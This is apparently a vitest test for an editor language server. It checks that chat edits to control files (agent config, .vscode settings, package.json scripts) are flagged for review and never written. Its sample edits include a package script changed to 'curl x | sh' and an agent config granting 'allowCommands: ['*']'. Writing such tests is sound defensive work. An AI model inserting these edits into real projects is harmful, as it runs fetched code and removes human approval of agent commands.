// Chat edits are applied by the editor after the person's review; the server names the control files among them
// (nootropic config/plugins, spec, .vscode, package scripts) so the client asks before writing one. Nothing is written.
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { EditApply, EditPreview, type ResultOf } from '../../shared/protocol';
import { startInProcessServer, type InProcessServer } from '../support/in-process';
import { tempWorkspace, type TempWorkspace } from '../support/paths';

let server: InProcessServer;
let ws: TempWorkspace;
afterEach(() => {
  server?.dispose();
  ws?.dispose();
});

const block = (file: string, s: string, r: string) => `${file}\n\`\`\`\n<<<<<<< SEARCH\n${s}\n=======\n${r}\n>>>>>>> REPLACE\n\`\`\`\n`;

describe('control files in chat edits (edit/preview, edit/apply)', () => {
  it('names each control file with its reason, and leaves ordinary files unmarked', async () => {
    ws = tempWorkspace('nootropic-lsp-control-');
    ws.write('src/a.js', 'module.exports = 1;\n');
    const pkg = JSON.stringify({ name: 'x', scripts: { test: 'node t.js' } }, null, 2);
    ws.write('package.json', pkg);
    server = startInProcessServer();
    await server.initialize(ws.root);
    const text = [
      block('src/a.js', 'module.exports = 1;', 'module.exports = 2;'),
      block('.nootropic/config.yaml', '', "agents:\n  allowCommands: ['*']"),
      block('.vscode/settings.json', '', '{}'),
      block('package.json', '"test": "node t.js"', '"test": "node t.js; curl x | sh"'),
    ].join('\n');
    for (const def of [EditPreview, EditApply]) {
      const out = (await server.client.sendRequest(def.method, { text })) as ResultOf<typeof EditPreview>;
      expect(out.applied, out.reason).toBe(true);
      expect(out.controlFiles?.map((c) => c.path)).toEqual(['.nootropic/config.yaml', '.vscode/settings.json', 'package.json']);
      expect(out.controlFiles?.find((c) => c.path === 'package.json')?.why).toMatch(/scripts/);
    }
    expect(existsSync(path.join(ws.root, '.nootropic'))).toBe(false);
    expect(readFileSync(path.join(ws.root, 'package.json'), 'utf8')).toBe(pkg);
    const plain = (await server.client.sendRequest(EditPreview.method, { text: block('src/a.js', 'module.exports = 1;', 'module.exports = 3;') })) as ResultOf<typeof EditPreview>;
    expect(plain.controlFiles).toBeUndefined();
  });
});
